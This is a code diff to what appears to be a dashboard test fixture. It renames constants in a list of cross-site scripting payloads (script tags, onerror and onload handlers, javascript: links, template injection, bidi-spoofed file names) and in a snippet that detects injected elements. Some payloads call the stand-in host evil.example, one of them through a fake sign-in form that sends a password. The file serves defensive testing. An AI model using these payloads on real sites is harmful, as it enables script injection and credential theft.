@@ -1,28 +1,28 @@
 /** Each would call this if it were ever taken for more than text: it opens a dialog and leaves a mark. */
-const strike = "alert(window.pwned=1)";
+const STRIKE = "alert(window.pwned=1)";
 /** Nothing is there; asking for it is the offence. */
-const evilHost = "evil.example";
+const EVIL_HOST = "evil.example";
 
 /**
  * Texts as somebody might give them who wants a reader of the dashboard to run, load or misread something. At most 100 characters each,
  * the shortest limit of the fields that they go into.
  */
 export const payloads = [
-  `<script>${strike}</script>`,
-  `"><img src=x onerror=${strike}>`,
-  `'><svg onload=${strike}>`,
-  `</script><script>${strike}</script>`,
-  `</title></style></textarea><img src=x onerror=${strike}>`,
-  `javascript:${strike}//`,
-  `<a href="javascript:${strike}" autofocus>press me</a>`,
-  `{{constructor.constructor('${strike}')()}} \${${strike}}`,
-  `<iframe srcdoc="<script>parent.${strike}</script>"></iframe>`,
-  `<x onfocus=${strike} autofocus tabindex=1>`,
-  `<details open ontoggle=${strike}><summary>x`,
-  `<img src=//${evilHost}/pixel.png><link rel=stylesheet href=//${evilHost}/a.css>`,
-  `<meta http-equiv=refresh content="0;url=//${evilHost}/"><base href=//${evilHost}/>`,
-  `<form action=//${evilHost}/><input name=password><button autofocus>Sign in`,
-  `&lt;img src=x onerror=${strike}&gt; &#60;svg onload=${strike}&#62;`,
+  `<script>${STRIKE}</script>`,
+  `"><img src=x onerror=${STRIKE}>`,
+  `'><svg onload=${STRIKE}>`,
+  `</script><script>${STRIKE}</script>`,
+  `</title></style></textarea><img src=x onerror=${STRIKE}>`,
+  `javascript:${STRIKE}//`,
+  `<a href="javascript:${STRIKE}" autofocus>press me</a>`,
+  `{{constructor.constructor('${STRIKE}')()}} \${${STRIKE}}`,
+  `<iframe srcdoc="<script>parent.${STRIKE}</script>"></iframe>`,
+  `<x onfocus=${STRIKE} autofocus tabindex=1>`,
+  `<details open ontoggle=${STRIKE}><summary>x`,
+  `<img src=//${EVIL_HOST}/pixel.png><link rel=stylesheet href=//${EVIL_HOST}/a.css>`,
+  `<meta http-equiv=refresh content="0;url=//${EVIL_HOST}/"><base href=//${EVIL_HOST}/>`,
+  `<form action=//${EVIL_HOST}/><input name=password><button autofocus>Sign in`,
+  `&lt;img src=x onerror=${STRIKE}&gt; &#60;svg onload=${STRIKE}&#62;`,
   "\u202Egnp.exe\u202C and \u2067after\u2069 \u200Fthe end",
   "W".repeat(100),
 ];
@@ -44,9 +44,9 @@ export function mailboxOf(name: string, address: string): string {
 }
 
 /** Run in a page: what of the payloads has become part of the document, or has run. */
-export const damageOnPage = `(() => {
+export const DAMAGE_ON_PAGE = `(() => {
   const handlers = ["onerror", "onload", "onfocus", "ontoggle"].map((name) => "[" + name + "]").join(",");
-  const planted = 'iframe[srcdoc], x, base, meta[http-equiv], a[href^="javascript:" i], [href*="${evilHost}"], [src*="${evilHost}"], [action*="${evilHost}"]';
+  const planted = 'iframe[srcdoc], x, base, meta[http-equiv], a[href^="javascript:" i], [href*="${EVIL_HOST}"], [src*="${EVIL_HOST}"], [action*="${EVIL_HOST}"]';
   return [
     ...[...document.querySelectorAll(handlers + "," + planted)].map((element) => element.outerHTML.slice(0, 200)),
     ...("pwned" in window ? ["a script ran"] : []),
